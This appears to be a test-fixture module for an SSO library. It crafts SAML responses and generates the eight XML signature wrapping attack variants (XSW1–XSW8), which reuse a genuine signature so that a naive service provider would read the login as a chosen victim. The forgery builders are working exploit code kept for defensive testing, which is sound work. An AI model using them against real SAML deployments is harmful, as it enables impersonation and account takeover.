/**
 * Crafted SAML responses for the attack tests: an assertion and a Response built as text, signed
 * with a test key by xml-crypto (node-saml's own dependency; tests only, never Assent's code), and
 * the eight XML signature wrapping variants of Somorovsky et al., "On Breaking SAML: Be Whoever You
 * Want to Be" (USENIX Security 2012), XSW1–XSW8 as named by SAML Raider.
 */
import { constants, createCipheriv, publicEncrypt, randomBytes } from 'node:crypto';
import { inflateRawSync } from 'node:zlib';
import { SignedXml } from 'xml-crypto';
import type { TestKeyPair } from './saml-keys.js';

const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const PERSISTENT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent';
const NS = 'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"';

/** What goes into a crafted assertion; defaults make a valid one. */
export interface Claims {
  issuer: string;
  audience: string;
  acsUrl: string;
  nameId: string;
  /** The AuthnRequest ID answered, or null for an unsolicited response. */
  inResponseTo: string | null;
  recipient?: string;
  destination?: string;
  assertionId?: string;
  /** Seconds from now. */
  notBefore?: number;
  notOnOrAfter?: number;
  email?: string;
}

const iso = (seconds: number) => new Date(Date.now() + seconds * 1000).toISOString();
/** A fresh SAML ID. */
export const samlId = () => `_${randomBytes(16).toString('hex')}`;

/** An unsigned Assertion. */
export function assertion(c: Claims): string {
  const irt = c.inResponseTo ? ` InResponseTo="${c.inResponseTo}"` : '';
  const id = c.assertionId ?? samlId();
  return (
    `<saml:Assertion ${NS} ID="${id}" Version="2.0" IssueInstant="${iso(0)}">` +
    `<saml:Issuer>${c.issuer}</saml:Issuer>` +
    `<saml:Subject><saml:NameID Format="${PERSISTENT}">${c.nameId}</saml:NameID>` +
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">` +
    `<saml:SubjectConfirmationData NotOnOrAfter="${iso(c.notOnOrAfter ?? 300)}" Recipient="${c.recipient ?? c.acsUrl}"${irt}/>` +
    `</saml:SubjectConfirmation></saml:Subject>` +
    `<saml:Conditions NotBefore="${iso(c.notBefore ?? -30)}" NotOnOrAfter="${iso(c.notOnOrAfter ?? 300)}">` +
    `<saml:AudienceRestriction><saml:Audience>${c.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${iso(0)}" SessionIndex="_s1"><saml:AuthnContext>` +
    `<saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef>` +
    `</saml:AuthnContext></saml:AuthnStatement>` +
    `<saml:AttributeStatement><saml:Attribute Name="email"><saml:AttributeValue>${c.email ?? 'forged@idp.example'}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>` +
    `</saml:Assertion>`
  );
}

/** A Response around `inner` (assertions, extensions). */
export function response(c: Claims, inner: string, id = samlId()): string {
  const irt = c.inResponseTo ? ` InResponseTo="${c.inResponseTo}"` : '';
  return (
    `<samlp:Response ${NS} ID="${id}" Version="2.0" IssueInstant="${iso(0)}" Destination="${c.destination ?? c.acsUrl}"${irt}>` +
    `<saml:Issuer>${c.issuer}</saml:Issuer>` +
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` +
    `${inner}</samlp:Response>`
  );
}

/**
 * Signs the element named `local` (Assertion or Response) of `xml`, the signature after its Issuer.
 * @param key - the signing key pair.
 */
export function sign(xml: string, local: 'Assertion' | 'Response', key: TestKeyPair): string {
  const sig = new SignedXml({
    privateKey: key.privateKey,
    publicCert: key.certificate,
    signatureAlgorithm: RSA_SHA256,
    canonicalizationAlgorithm: EXC_C14N,
  });
  const at = `//*[local-name(.)='${local}']`;
  sig.addReference({
    xpath: at,
    digestAlgorithm: 'http://www.w3.org/2001/04/xmlenc#sha256',
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', EXC_C14N],
  });
  sig.computeSignature(xml, { location: { reference: `${at}/*[local-name(.)='Issuer']`, action: 'after' } });
  return sig.getSignedXml();
}

/**
 * An EncryptedAssertion holding `assertionXml` (XML Encryption 1.0: AES-256-CBC content, the key
 * transported by RSA-OAEP-MGF1P to `certificate`), as ADFS, Entra ID and Okta send it.
 * @param certificate - PEM certificate of the key the assertion is encrypted to.
 * @param keyTransport - `rsa-1_5` for the PKCS #1 v1.5 key transport an SP must refuse.
 */
export function encryptAssertion(
  assertionXml: string,
  certificate: string,
  keyTransport: 'rsa-oaep-mgf1p' | 'rsa-1_5' = 'rsa-oaep-mgf1p',
): string {
  const key = randomBytes(32);
  const iv = randomBytes(16);
  const cipher = createCipheriv('aes-256-cbc', key, iv);
  const content = Buffer.concat([iv, cipher.update(assertionXml, 'utf8'), cipher.final()]).toString('base64');
  const wrapped = publicEncrypt(
    {
      key: certificate,
      padding: keyTransport === 'rsa-1_5' ? constants.RSA_PKCS1_PADDING : constants.RSA_PKCS1_OAEP_PADDING,
      oaepHash: 'sha1',
    },
    key,
  ).toString('base64');
  const xenc = 'http://www.w3.org/2001/04/xmlenc#';
  return (
    `<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="${xenc}" Type="${xenc}Element">` +
    `<xenc:EncryptionMethod Algorithm="${xenc}aes256-cbc"/>` +
    `<ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey>` +
    `<xenc:EncryptionMethod Algorithm="${xenc}${keyTransport}"/>` +
    `<xenc:CipherData><xenc:CipherValue>${wrapped}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo>` +
    `<xenc:CipherData><xenc:CipherValue>${content}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData>` +
    `</saml:EncryptedAssertion>`
  );
}

/** A Response's top-level StatusCode set to `status` (a SAML 2.0 Core §3.2.2.2 URI) instead of Success. */
export const withStatus = (xml: string, status: string) =>
  xml.replace('urn:oasis:names:tc:SAML:2.0:status:Success', status);

/** The base64 of `xml`, as the HTTP-POST binding carries it. */
export const encode = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');

/** The ID of the AuthnRequest in an HTTP-Redirect URL (deflated, base64). */
export function requestIdOf(redirect: string): string {
  const xml = inflateRawSync(Buffer.from(new URL(redirect).searchParams.get('SAMLRequest')!, 'base64')).toString();
  return /\sID="([^"]+)"/.exec(xml)![1]!;
}

const signatureOf = (xml: string) => /<Signature[\s\S]*<\/Signature>/.exec(xml)![0];
const withoutSignature = (xml: string) => xml.replace(/<Signature[\s\S]*<\/Signature>/, '');
const setNameId = (xml: string, nameId: string) => xml.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${nameId}`);
const setId = (xml: string, id: string) => xml.replace(/ ID="[^"]+"/, ` ID="${id}"`);
const issuerEnd = (xml: string) => xml.indexOf('</saml:Issuer>') + '</saml:Issuer>'.length;
const insertAfterIssuer = (xml: string, part: string) =>
  xml.slice(0, issuerEnd(xml)) + part + xml.slice(issuerEnd(xml));

/**
 * The eight signature wrapping variants: a response whose signature is the IdP's (over the
 * legitimate assertion for `c.nameId`) and whose content a naive SP would read as `victim`.
 * @returns name → Response XML.
 */
export function wrappingVariants(c: Claims, key: TestKeyPair, victim: string): Record<string, string> {
  const signedAssertion = sign(assertion(c), 'Assertion', key);
  const evil = setId(setNameId(withoutSignature(signedAssertion), victim), samlId());
  const signedResponse = sign(response(c, assertion(c)), 'Response', key);
  const responseSig = signatureOf(signedResponse);
  const assertionSig = signatureOf(signedAssertion);
  const inSig = (sig: string, part: string) => sig.replace('</Signature>', `${part}</Signature>`);
  const evilResponse = (inner: string) => response(c, inner);
  return {
    // XSW1: a new Response with the evil assertion; the signed original Response inside its Signature.
    XSW1: insertAfterIssuer(evilResponse(evil), inSig(responseSig, withoutSignature(signedResponse))),
    // XSW2: as XSW1, the signed original Response a sibling before the copied Signature.
    XSW2: insertAfterIssuer(evilResponse(evil), withoutSignature(signedResponse) + responseSig),
    // XSW3: the evil assertion (new ID) before the signed one.
    XSW3: evilResponse(evil + signedAssertion),
    // XSW4: the evil assertion wraps the signed one.
    XSW4: evilResponse(evil.replace('</saml:Assertion>', `${signedAssertion}</saml:Assertion>`)),
    // XSW5: the evil assertion carries the copied signature; the original, unsigned, appended.
    XSW5: evilResponse(
      insertAfterIssuer(setId(evil, /ID="([^"]+)"/.exec(signedAssertion)![1]!), assertionSig) +
        withoutSignature(signedAssertion),
    ),
    // XSW6: the evil assertion carries the copied signature, the original inside that signature.
    XSW6: evilResponse(insertAfterIssuer(evil, inSig(assertionSig, withoutSignature(signedAssertion)))),
    // XSW7: the signed assertion inside Extensions, the evil one after it.
    XSW7: evilResponse(`<samlp:Extensions>${signedAssertion}</samlp:Extensions>${evil}`),
    // XSW8: the evil assertion carries the signature, the original in a ds:Object inside it (xml-crypto
    // writes the Signature in the default namespace, so `Object` is ds:Object).
    XSW8: evilResponse(
      insertAfterIssuer(evil, inSig(assertionSig, `<Object>${withoutSignature(signedAssertion)}</Object>`)),
    ),
  };
}
